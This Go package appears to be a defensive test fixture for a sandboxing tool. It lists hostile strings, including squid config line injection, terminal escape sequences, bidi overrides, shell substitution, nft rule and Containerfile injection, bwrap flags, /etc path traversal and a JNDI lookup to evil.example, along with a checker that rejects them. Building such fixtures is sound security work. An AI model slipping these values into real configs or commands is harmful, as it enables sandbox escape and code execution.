// Package hostile has strings that a user, a repository or a sandbox could choose
// to be taken for something else than data, and what they must not become.
package hostile

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Forged is a line that one of Strings tries to add to whatever is made of it.
const Forged = "http_access allow all"

// Strings are hostile to one reader or another: a terminal, a shell, squid, nft, a
// Containerfile, bubblewrap, podman, JSON.
var Strings = []string{
	"a\n" + Forged + "\n",
	"a\r\n" + Forged,
	"a\u2028" + Forged,
	"a\x85" + Forged,
	"a b\tc",
	"\x1b[2J\x1b]52;c;eA==\x07",
	"\u009b1m\u009d0;x\u009c",
	"\x9b1m",
	"\u202egnp.exe\u202c",
	"\u2066x\u2069\u200b\ufeff",
	"a\x00b",
	"\xff\xfe\xc0\xaf",
	"\xed\xa0\x80",
	strings.Repeat("long", 2000),
	`"; drop'` + "`id`$(id)${HOME}%h%00",
	`a"} accept } chain x { comment "`,
	`; accept; #`,
	"a # comment",
	`\`,
	`a\nb\x1b[2J`,
	"--share-net",
	"--bind", "-",
	"--",
	"/etc:/etc:rw,z",
	"..", "../../etc", "/../../etc",
	"<session>", "<gate-port>", "<fd of info>",
	"FROM evil\nRUN id",
	"x AS y",
	"x\\\nRUN id",
	"# syntax=evil/frontend",
	"${jndi:ldap://evil.example/a}",
	"\u0130\u0131\u017f", // change length or letter in other cases
	"e\u0301\U0001f468\u200d\U0001f469",
	"[profile x]",
	"key = value",
}

// Printed returns an error where text holds what a terminal could obey or a reader
// be misled by: anything but newlines, tabs and printable characters, or a line
// that one of Strings has added.
func Printed(text string) error {
	if !utf8.ValidString(text) {
		return fmt.Errorf("it is not UTF-8: %.300q", text)
	}
	for i, r := range text {
		if r != '\n' && r != '\t' && !unicode.IsPrint(r) {
			return fmt.Errorf("it holds %q: %.300q", r, text[max(0, i-100):min(len(text), i+100)])
		}
	}
	for line := range strings.Lines(text) {
		if strings.TrimSpace(line) == Forged {
			return fmt.Errorf("a line is forged: %.300q", text)
		}
	}
	return nil
}
